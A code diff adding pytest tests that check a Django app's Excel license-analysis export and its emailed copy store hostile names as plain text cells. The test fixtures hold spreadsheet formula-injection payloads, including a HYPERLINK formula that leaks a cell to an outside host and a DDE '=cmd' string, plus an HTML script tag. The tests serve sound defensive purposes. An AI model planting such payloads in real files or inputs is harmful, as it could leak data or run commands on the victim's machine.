@@ -1,15 +1,18 @@
 """The license analysis workbook, read back with openpyxl."""
 
 import io
+import re
 import uuid
+import zipfile
 
 import pytest
+from django.core import mail
 from django.core.management import CommandError, call_command
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from openpyxl import load_workbook
 
-from licensing.analysis import build_workbook
+from licensing.analysis import build_workbook, send_analysis
 from tests.factories import (
     ClientFactory,
     DeclarationFactory,
@@ -265,3 +268,94 @@ def test_license_report_writes_the_workbook_as_xlsx(customer_a, two_productions,
 def test_license_report_needs_an_output_file_for_xlsx(customer_a):
     with pytest.raises(CommandError, match="--output"):
         call_command("license_report", "12345", "--format", "xlsx", stdout=io.StringIO())
+
+
+# Legal names (DESIGN.md) that a spreadsheet would run as a formula, or that are HTML.
+HOSTILE_TEXTS = [
+    '=HYPERLINK("http://example.com/?leak="&A1,"klik")',
+    "=1+1",
+    "+31 20 123 4567",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tJ. Jansen",
+    "\rJ. Jansen",
+    "#REF!",
+    "#N/A",
+    "<script>alert(1)</script>",
+]
+
+
+@pytest.fixture
+def hostile_names(customer_a):
+    customer_a.name = "=1+1 BV"
+    customer_a.save()
+    environment = EnvironmentFactory(customer=customer_a, type="O", code="O12345AA", name="=cmd|'/c calc'!A1")
+    for position, text in enumerate(HOSTILE_TEXTS):
+        EnvironmentUserFactory(environment=environment, code=f"={position}+{position}", name=text, email="")
+        EmployeeFactory(environment=environment, name=text)
+    return environment
+
+
+def all_cells(workbook):
+    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def test_text_that_looks_like_a_formula_is_written_as_a_text_cell(customer_a, hostile_names):
+    workbook = workbook_of(customer_a)
+
+    cells = all_cells(workbook)
+    assert [cell.coordinate for cell in cells if cell.data_type in ("f", "e")] == []
+    texts = {cell.value: cell.data_type for cell in cells if isinstance(cell.value, str)}
+    for text in [*HOSTILE_TEXTS, "=1+1 BV", "=cmd|'/c calc'!A1", "=0+0", "=9+9"]:
+        assert texts[text] == "s", text
+    users = rows_of(workbook["Gebruikers"])
+    assert sorted(row["Naam"] for row in users) == sorted(HOSTILE_TEXTS)
+
+
+def test_the_sheets_hold_no_formula_element_and_html_only_escaped(customer_a, hostile_names):
+    output = io.BytesIO()
+    build_workbook(customer=customer_a, output=output)
+
+    with zipfile.ZipFile(output) as archive:
+        sheets = [
+            archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")
+        ]
+
+    assert len(sheets) == 4
+    for xml in sheets:
+        assert not re.search(r"<f[ >/]", xml)
+    users = sheets[1]
+    assert "<script>" not in users
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in users
+    assert "<t>=HYPERLINK(" in users
+
+
+def test_characters_that_xml_cannot_hold_are_replaced_instead_of_failing(customer_a):
+    # Stored before the snapshot validator refused them, or typed into the back office.
+    environment = EnvironmentFactory(customer=customer_a, type="O", code="O12345AA", name="Omgeving\x01")
+    EnvironmentUserFactory(environment=environment, code="kees", name="K.\x01\x1b Kees\ufffe")
+
+    workbook = workbook_of(customer_a)
+
+    assert users_by_code(workbook)["kees"]["Naam"] == "K.\ufffd\ufffd Kees\ufffd"
+    assert rows_of(workbook["Omgevingen"])[0]["Omschrijving"] == "Omgeving\ufffd"
+
+
+def test_the_emailed_analysis_is_plain_text_with_the_names_as_text_cells(
+    customer_a, beheerder, hostile_names
+):
+    beheerder.name = "<b>Beheerder</b>"
+    beheerder.save()
+
+    assert send_analysis(contact_id=beheerder.id, customer_id=customer_a.id) is True
+
+    (message,) = mail.outbox
+    # Plain text: nothing there is HTML, so it is written as it is, not entity-escaped.
+    assert message.content_subtype == "plain"
+    assert getattr(message, "alternatives", []) == []
+    assert message.body.startswith("Beste <b>Beheerder</b>,")
+    assert "=1+1 BV" in message.body
+    (_filename, content, _mimetype) = message.attachments[0]
+    workbook = load_workbook(io.BytesIO(content))
+    assert [cell.coordinate for cell in all_cells(workbook) if cell.data_type in ("f", "e")] == []
+    assert sorted(row["Naam"] for row in rows_of(workbook["Gebruikers"])) == sorted(HOSTILE_TEXTS)
